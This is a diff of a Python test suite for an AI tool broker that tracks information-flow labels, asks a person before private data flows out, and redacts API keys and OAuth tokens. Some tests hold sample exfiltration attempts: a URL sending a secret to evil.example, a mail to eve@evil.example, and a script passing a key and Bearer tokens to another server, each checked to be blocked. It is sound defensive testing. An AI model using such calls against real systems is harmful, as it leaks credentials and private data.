@@ -1,10 +1,12 @@
 """What a run has read, and what it may send then: labels over single calls, resources, used processes and kept scripts.
 
 What a person is asked about a flow, and *always*: a rule that is in force at once and stands in the file.
+Secrets of the configuration stay with their servers: `policy.secrets`.
 """
 
 import asyncio
 import json
+import time
 from collections import Counter
 from pathlib import Path
 from typing import Any
@@ -17,18 +19,24 @@ from cellblock import Broker, tool
 from cellblock.app.assembly import library_of
 from cellblock.app.cli.flows import always_in
 from cellblock.base.errors import CallDenied
+from cellblock.base.redaction import SecretForms, redacted
 from cellblock.record.scripts.script_file import Header, format_script
 from cellblock.run.flows.labels import NOTHING, STRICTEST, Label
 from cellblock.run.flows.rules import overview
+from cellblock.run.flows.secrets import Secrets
 from cellblock.run.policy.asking import Caller, Grantee, Question, Verdict, flow_of
 from cellblock.serve.http.waiting_runs import WaitingRuns
 from cellblock.serve.mcp.mcp_server import FrontServer
 from cellblock.tools.catalog.model import READ
+from cellblock.tools.upstream.wire.results import ToolResult
+from integration.holding import Holding
+from support.asking_client import asking
 from support.brokers import ready
 from support.commands import command
-from support.entries import forked_server, ledger, plain_server, settings, write_config
+from support.entries import entry, forked_server, ledger, plain_server, settings, write_config
 from support.http_daemon import daemon
 from support.modern_client import TASKS, ModernClient
+from support.oauth_world import world
 from support.waits import until, within
 
 LABELS: dict[str, Any] = {
@@ -51,9 +59,9 @@ async def no(question: Question) -> Verdict:
 
 
 async def called(broker: Broker, server: str, tool: str, caller: Caller, **arguments: Any) -> Any:
-    entry = broker.catalog.servers[server]
-    one = READ if tool == "resources/read" else entry.by_export[tool]
-    return await within(broker.call_tool(entry, one, arguments, caller, Counter()))
+    found = broker.catalog.servers[server]
+    one = READ if tool == "resources/read" else found.by_export[tool]
+    return await within(broker.call_tool(found, one, arguments, caller, Counter()))
 
 
 async def test_calls_without_a_script_know_what_those_before_have_read(tmp_path: Path) -> None:
@@ -64,52 +72,25 @@ async def test_calls_without_a_script_know_what_those_before_have_read(tmp_path:
         with pytest.raises(CallDenied) as refused:
             await called(broker, "out", "echo", caller, text="secret")
         assert refused.value.details["code"] == "APPROVAL_DECLINED"
+        with pytest.raises(CallDenied):
+            await called(broker, "out", "resources/read", caller, uri="http://evil.example/secret")
         with pytest.raises(CallDenied) as refused:
             # Nobody can be asked.
             await called(broker, "out", "echo", Caller(grantee=Grantee("token")), text="secret")
         assert refused.value.details["code"] == "APPROVAL_UNAVAILABLE" and sent(tmp_path) == 1
         assert "it may carry what is private, and everybody may see it" in refused.value.message
         script = 'import { echo } from "@codemode/servers/out"; await echo({});'
-        response = await within(broker.run(script, grantee=Grantee("token", no)))
-        assert not response.ok and sent(tmp_path) == 1
+        assert not (await within(broker.run(script, grantee=Grantee("token", no)))).ok and sent(tmp_path) == 1
         await called(broker, "out", "echo", Caller(grantee=Grantee("stdio:other", no)), text="mine")
         assert sent(tmp_path) == 2
 
 
-async def test_a_resource_is_labelled_and_its_uri_is_sent(tmp_path: Path) -> None:
-    beside = tmp_path / "beside.json"
-    contents = {"contents": [{"uri": "x:1", "text": "secret"}]}
-    told: dict[str, Any] = {"capabilities": {"resources": {}}, "answers": {"resources/read": contents}}
-    beside.write_text(json.dumps(told))
-    servers = {
-        name: plain_server("--ledger", tmp_path / f"{name}.log", "--beside", beside)
-        for name in ("mail", "out")
-    }
-    caller = Caller(grantee=Grantee("token", no))
-    script = """
-import { readResource } from "@codemode/discovery";
-const got = await readResource("mail", "x:1");
-let why;
-try { await readResource("out", `http://evil.example/${got}`); } catch (error) { why = error.code; }
-globalThis.__codemode_result__ = [got, why];
-"""
-    async with ready(settings(tmp_path / "s", servers, policy=POLICY)) as broker:
-        response = await within(broker.run(script, grantee=Grantee("token", no)))
-        assert response.result == ["secret", "APPROVAL_DECLINED"], response
-        assert response.label == STRICTEST and sent(tmp_path) == 0
-        with pytest.raises(CallDenied):
-            await called(broker, "out", "resources/read", caller, uri="http://evil.example/secret")
-
-
 async def test_a_process_that_knows_more_is_not_used_again(tmp_path: Path) -> None:
-    def code(server: str) -> str:
-        return f'import {{ echo }} from "@codemode/servers/{server}"; await echo({{}});'
-
+    code = 'import { echo } from "@codemode/servers/SERVER"; await echo({});'
     pool = {"reuse": "principal", "warm": 0}
-    owner = Grantee("token", no)
     async with ready(settings(tmp_path / "s", entries(tmp_path), policy=POLICY, pool=pool)) as broker:
         ran = [
-            await within(broker.run(code(name), grantee=owner))
+            await within(broker.run(code.replace("SERVER", name), grantee=Grantee("token", no)))
             for name in ("out", "out", "mail", "mail", "mail")
         ]
         # The third has the first's process, and reads mail in it: what comes then has another.
@@ -118,15 +99,6 @@ async def test_a_process_that_knows_more_is_not_used_again(tmp_path: Path) -> No
 
 async def test_a_run_that_waits_for_a_process_is_not_given_one_that_knows_more(tmp_path: Path) -> None:
     """It has the key of the process from before the run there read mail."""
-    enters, goes_on = asyncio.Event(), asyncio.Event()
-
-    @tool()
-    async def hold() -> str:
-        "Waits."
-        enters.set()
-        await goes_on.wait()
-        return "held"
-
     labels = {**LABELS, "local.*": {"secrecy": "public", "trust": "trusted", "sink": "private"}}
     pool = {"reuse": "principal", "warm": 0, "capacity": 1}
     made = settings(tmp_path / "s", entries(tmp_path), policy={**POLICY, "labels": labels}, pool=pool)
@@ -137,30 +109,27 @@ async def test_a_run_that_waits_for_a_process_is_not_given_one_that_knows_more(t
         first = f"""import {{ echo }} from "@codemode/servers/mail";
 import {{ hold }} from "@codemode/servers/local";
 await hold({{}}); {read}"""
-        enters.clear()
-        goes_on.clear()
-        async with ready(made, tools=[hold]) as broker:
+        holding = Holding()
+        async with ready(made, tools=[holding.tool]) as broker:
             before = asyncio.create_task(broker.run(first, grantee=owner))
-            await within(enters.wait())
+            await until(lambda holding=holding: holding.inside == 1, "it waits")
             after = asyncio.create_task(broker.run(first.replace(read, ""), grantee=owner))
             await until(lambda broker=broker: broker.facts().pool()["queued"] == 1, "the other one waits")
-            goes_on.set()
+            holding.go_on.set()
             assert (await within(before)).ok
             response = await within(after)
             assert response.ok and response.usage.reused == reused, response
 
 
 async def test_an_overlay_labels_where_the_policy_does_not(tmp_path: Path) -> None:
-    overlays = tmp_path / "overlays"
-    overlays.mkdir()
-    text = '[tools.echo]\nflow = {secrecy = ["repo:acme"], trust = "trusted", sink = "private"}\n'
-    (overlays / "mail.toml").write_text(text)
+    (tmp_path / "mail.toml").write_text(
+        '[tools.echo]\nflow = {secrecy = ["repo:acme"], trust = "trusted", sink = "private"}\n'
+    )
     policy = {"flows": "guard", "labels": {"mail.*": {"sink": "public"}}}
-    schemas = {"overlays": str(overlays)}
+    schemas = {"overlays": str(tmp_path)}
     async with ready(settings(tmp_path / "s", entries(tmp_path), policy=policy, schemas=schemas)) as broker:
         code = 'import { echo } from "@codemode/servers/mail"; await echo({});'
-        response = await within(broker.run(code))
-        assert response.label == Label(frozenset({"repo:acme"}))
+        assert (await within(broker.run(code))).label == Label(frozenset({"repo:acme"}))
         assert not (await within(broker.run(code))).ok
 
 
@@ -171,8 +140,8 @@ async def test_doctor_is_told_what_servers_can_do_together(tmp_path: Path) -> No
         assert [line.partition(":")[0] for line in servers] == ["mail (unlabelled)", "out (policy)"]
         assert all("; everybody may see calls of announce, deep, die, echo, " in line for line in servers)
         closed = settings(tmp_path / "s", entries(tmp_path), policy={"labels": {"*.*": {"sink": "private"}}})
-        for line in overview(closed.cellblock.policy, made.servers, broker.catalog):
-            assert line.endswith("; not everybody may see its calls")
+        private = overview(closed.cellblock.policy, made.servers, broker.catalog)
+        assert all(line.endswith("; not everybody may see its calls") for line in private)
         assert "mail" in together and "policy.flows is off" in together
         response = await within(broker.run("globalThis.__codemode_result__ = 1"))
         assert response.label is None and NOTHING.within(STRICTEST)
@@ -200,6 +169,8 @@ async def test_a_kept_script_carries_labels_in_and_out(tmp_path: Path) -> None:
         "one child reads, another sends": "await reads({}); await tried(() => sends({ text: 1 }));",
     }
     async with ready(made) as broker:
+        alone = 'import { sends } from "@codemode/scripts"; await sends({ text: 1 });'
+        assert (await within(broker.run(alone, grantee=Grantee("stdio:knows nothing", no)))).ok
         for name, body in runs.items():
             code = f"""import {{ computes, reads, sends }} from "@codemode/scripts";
 import {{ echo }} from "@codemode/servers/out";
@@ -208,26 +179,21 @@ let why;
 const tried = async (call) => {{ try {{ await call(); }} catch (error) {{ why = error.code; }} }};
 {body}
 globalThis.__codemode_result__ = why;"""
-            asked: list[Question] = []
+            asked: list[str] = []
 
-            async def note(question: Question, asked: list[Question] = asked) -> Verdict:
-                asked.append(question)
+            async def note(question: Question, asked: list[str] = asked) -> Verdict:
+                asked.append(f"{question.server_id}.{question.tool_name}")
                 return Verdict.DECLINED
 
             response = await within(broker.run(code, grantee=Grantee(f"stdio:{name}", note)))
-            assert response.ok and response.label == STRICTEST, (name, response)
-            assert [(one.server_id, one.tool_name) for one in asked] == [("out", "echo")], (
-                name,
-                asked,
-                response,
-            )
-    assert sent(tmp_path) == 0
+            assert (response.ok, response.label, asked) == (True, STRICTEST, ["out.echo"]), (name, response)
+    assert sent(tmp_path) == 1
 
 
 async def test_a_server_asks_no_model_for_what_it_may_not_know(tmp_path: Path) -> None:
     """Its call was made when the run knew nothing, and it asks when the run has read mail."""
-    command = forked_server("asking_server.py", "stdio", "--older")
-    servers = {**entries(tmp_path), "asking": {"command": command[0], "args": command[1:]}}
+    asking = entry(forked_server("asking_server.py", "stdio", "--older"))
+    servers = {**entries(tmp_path), "asking": asking}
     labels = {**LABELS, "asking.*": {"secrecy": "public", "trust": "trusted", "sink": "public"}}
 
     async def sample(context: object, params: object) -> types.CreateMessageResult:
@@ -245,18 +211,18 @@ await echo({});
 await echo({});
 globalThis.__codemode_result__ = [first, await later];
 """
-    made = settings(tmp_path / "s", servers, policy={"flows": "guard", "labels": labels})
-    async with ready(made) as broker:
+    async with ready(
+        settings(tmp_path / "s", servers, policy={"flows": "guard", "labels": labels})
+    ) as broker:
         client = Client(FrontServer(broker, version="1").open(), mode="legacy", sampling_callback=sample)
         async with client:
-            code = script % json.dumps(str(file))
-            running = asyncio.create_task(client.call_tool("codemode.run", {"code": code}))
+            work = client.call_tool("codemode.run", {"code": script % json.dumps(str(file))})
+            running = asyncio.create_task(work)
             # The second time, the first answer is there.
             await until(lambda: sent(tmp_path, "mail") == 2, "mail is read")
             file.touch()
-            said: Any = (await within(running)).structured_content
-    first, later = said["result"]
-    assert first == "secret" and later.startswith("refused -32600: The policy"), said
+            first, later = (await within(running)).structured_content["result"]
+    assert first == "secret" and later.startswith("refused -32600: The policy"), later
 
 
 SECRET = "payroll-7f3a91c2 of \u202eevil"
@@ -280,26 +246,6 @@ def code(to: str = "ann@acme.example") -> str:
     return CODE % (json.dumps(SECRET), json.dumps(to))
 
 
-class Person:
-    """A client whose user says always when told to."""
-
-    def __init__(self, broker: Broker) -> None:
-        self.asked: list[types.ElicitRequestFormParams] = []
-        self.content: dict[str, Any] = {}
-        self.client = Client(
-            FrontServer(broker, version="1").open(), mode="legacy", elicitation_callback=self.elicit
-        )
-
-    async def elicit(self, context: object, params: types.ElicitRequestParams) -> types.ElicitResult:
-        assert isinstance(params, types.ElicitRequestFormParams)
-        self.asked.append(params)
-        return types.ElicitResult(action="accept", content=self.content)
-
-    async def run(self, script: str) -> Any:
-        done = await within(self.client.call_tool("codemode.run", {"code": script}))
-        return done.structured_content
-
-
 ASK = {"to": "mail.*", "then": "ask"}
 
 
@@ -312,19 +258,24 @@ async def test_always_in_a_form_writes_the_rule_that_was_shown(
     file = write_config(tmp_path, entries(tmp_path), policy={**POLICY, "flows": before})
     async with ready(settings(tmp_path / "state", entries(tmp_path), policy=POLICY)) as broker:
         broker.on_always = always_in(file)
-        person = Person(broker)
-        async with person.client:
+        content: dict[str, Any] = {}
+
+        async def answer(_: str) -> types.ElicitResult:
+            return types.ElicitResult(action="accept", content=dict(content))
+
+        async with asking(FrontServer(broker, version="1").open(), "legacy") as person:
+            person.answer = answer
             # Without it, each is asked about.
             assert [(await person.run(code()))["diagnostics"] for _ in range(2)] == [[], []]
-            assert len(person.asked) == 2
-            person.content = {"always": True}
+            assert len(person.questions) == 2
+            content["always"] = True
             for _ in range(2):
                 await person.run(code())
-            assert len(person.asked) == 3 and sent(tmp_path) == 4
-            person.content = {}
+            assert len(person.questions) == 3 and sent(tmp_path) == 4
+            content.clear()
             await person.run(code("eve@evil.example"))
-            assert len(person.asked) == 4
-    text = person.asked[0].message
+            assert len(person.questions) == 4
+    text = person.questions[0]
     assert "mail.echo" in text and "private and untrusted" in text and "everybody may see" in text
     assert "THE END" in text.replace("\n  ", "") and "⟦" in text and "\u202e" not in text
     assert json.dumps(RULE, ensure_ascii=False) in text
@@ -332,8 +283,7 @@ async def test_always_in_a_form_writes_the_rule_that_was_shown(
     assert max(map(len, folded)) <= 160
     # A part of the input does not pass for a line of the question.
     assert all(line.startswith("  ") for line in folded[1:])
-    flows = json.loads(file.read_text())["cellblock"]["policy"]["flows"]
-    assert flows == [RULE, *earlier]
+    assert json.loads(file.read_text())["cellblock"]["policy"]["flows"] == [RULE, *earlier]
 
 
 async def test_a_parked_run_shows_the_same_and_always_is_a_command(tmp_path: Path) -> None:
@@ -429,8 +379,9 @@ import { echo } from "@codemode/servers/out";
 const got = await echo({ text: "code" });
 globalThis.__codemode_result__ = await echo({ got });
 """
-    policy = {**POLICY, "labels": labels}
-    async with ready(settings(tmp_path / "s", entries(tmp_path), policy=policy)) as broker:
+    async with ready(
+        settings(tmp_path / "s", entries(tmp_path), policy={**POLICY, "labels": labels})
+    ) as broker:
         owner = Grantee("token")
         response = await within(broker.run(script, grantee=owner, durable=True))
         assert response.parked and sent(tmp_path) == 1
@@ -445,3 +396,117 @@ globalThis.__codemode_result__ = await echo({ got });
         assert "private and untrusted" in waiting.questions[0].said
         response = await within(broker.resume(waiting.id, "accepted"))
         assert response.ok and sent(tmp_path) == 2
+
+
+KEY = 'sk-7f"3a91c2-Ünïque'
+
+
+def owners(folder: Path) -> dict[str, Any]:
+    return {
+        "owner": plain_server("--ledger", folder / "owner.log", env={"API_KEY": KEY}),
+        "other": plain_server("--ledger", folder / "other.log"),
+    }
+
+
+def inputs_of(folder: Path, name: str) -> list[Any]:
+    return [event["arguments"] for event in ledger(folder / f"{name}.log") if event["event"] == "call"]
+
+
+LEAKS = f"""
+import * as owner from "@codemode/servers/owner";
+import * as other from "@codemode/servers/other";
+const key = {json.dumps(KEY)}, said = [];
+for (const call of [
+  () => owner.echo({{ key }}), () => other.echo({{ deep: [{{ [key]: `Bearer ${{key}}` }}] }}),
+  () => other.give({{ safe: 1 }}),
+  () => owner.fail({{ text: `no: ${{key}}` }}), () => owner.environment({{}}),
+]) {{
+  try {{ said.push(await call()); }} catch (error) {{ said.push(`${{error.code}} ${{error.message}}`); }}
+}}
+globalThis.__codemode_result__ = said;
+"""
+
+
+@pytest.mark.parametrize("mode", ["mask", "deny", "off"])
+async def test_a_secret_goes_to_its_server_alone_and_into_no_result(mode: str, tmp_path: Path) -> None:
+    used = Counter[tuple[int, str]]()
+    async with ready(settings(tmp_path / "state", owners(tmp_path), policy={"secrets": mode})) as broker:
+        response = await within(broker.run(LEAKS, grantee=Grantee("token")))
+        tool = broker.catalog.servers["owner"].by_export["echo"]
+        caller_result = await within(
+            broker.call_tool(
+                broker.catalog.servers["owner"], tool, {"key": KEY}, Caller(grantee=Grantee("token")), used
+            )
+        )
+    result: Any = response.result
+    text = json.dumps(result) + caller_result.body.decode()
+    if mode == "off":
+        assert text.count("3a91c2") >= 4
+        return
+    assert "3a91c2" not in text and text.count("[redacted]") >= 3, text
+    assert inputs_of(tmp_path, "owner")[0] == {"key": KEY} and result[2] == {"safe": 1}
+    others = inputs_of(tmp_path, "other")
+    if mode == "mask":
+        assert others == [{"deep": [{"[redacted]": "Bearer [redacted]"}]}, {"safe": 1}]
+    else:
+        assert others == [{"safe": 1}] and result[1].startswith("SECRET_DENIED ")
+
+
+@pytest.mark.parametrize("mode", ["mask", "deny"])
+async def test_a_login_s_tokens_stay_with_its_server(mode: str, tmp_path: Path) -> None:
+    """Also those that a renewal has brought; those before it may still be good."""
+    tokens: list[str] = []
+
+    @tool()
+    def found() -> list[str]:
+        "Gives what somebody has found."
+        return [f"Bearer {token}" for token in tokens]
+
+    script = """
+import { whoami } from "@codemode/servers/notes";
+import { echo } from "@codemode/servers/other";
+import { found } from "@codemode/servers/local";
+const said = [await whoami({}), await found()];
+for (const token of TOKENS) {
+  try { said.push(await echo({ [token]: `Bearer ${token}` })); } catch (error) { said.push(error.code); }
+}
+globalThis.__codemode_result__ = said;
+"""
+    other = {"other": plain_server("--ledger", tmp_path / "other.log")}
+    async with world(tmp_path, "--life", "2", policy={"secrets": mode}) as place:
+        await place.log_in()
+        # The last token was granted, or used, when this was written.
+        ledgers = place.folder / "ledger.jsonl"
+        made = settings(place.state, {**place.servers, **other}, **place.cellblock)
+        async with ready(made, tools=[found]) as broker:
+            for _ in range(2):
+                # Those that the run begins with; a renewal comes while it waits for nobody.
+                granted = len(place.tokens())
+                assert (await within(broker.run(script.replace("TOKENS", "[]")))).ok
+                tokens[:] = place.tokens()
+                assert len(tokens) == 2 or len(tokens) > granted
+                response = await within(broker.run(script.replace("TOKENS", json.dumps(tokens))))
+                result: Any = response.result
+                assert response.ok and result[0] == "ada", response
+                assert result[1] == {"result": ["Bearer [redacted]"] * len(tokens)}
+                assert not any(token in json.dumps(result) for token in place.tokens())
+                if mode == "deny":
+                    assert result[2:] == ["SECRET_DENIED"] * len(tokens)
+                await until(lambda: time.time() > ledgers.stat().st_mtime + 2.2, "the token has expired")
+    every = json.dumps(inputs_of(tmp_path, "other"))
+    assert not any(token in every for token in place.tokens())
+    assert (every.count("Bearer [redacted]") >= 6) == (mode == "mask")
+
+
+def test_a_secret_is_found_however_json_writes_it() -> None:
+    later = SecretForms()
+    secrets = Secrets("mask", {}, ["abc/def+ghi"], later)
+    later.add(["tok/en+123456", "short"], "notes")
+    for text in (r'"abc\/def+ghi"', r'"\u0061bc/def+ghi"', r'"tok\/en+123456"', '"tok%2Fen%2B123456"'):
+        masked = asyncio.run(
+            secrets.incoming(ToolResult(b'{"content":[{"type":"text","text":%s}]}' % text.encode()))
+        )
+        assert b"[redacted]" in masked.body and b"123456" not in masked.body, text
+    body = b'{"content":[{"type":"text","text":"short \\/ of it"}]}'
+    assert asyncio.run(secrets.incoming(ToolResult(body))).body == body
+    assert redacted("tok/en+123456", [later], "notes") == "tok/en+123456"
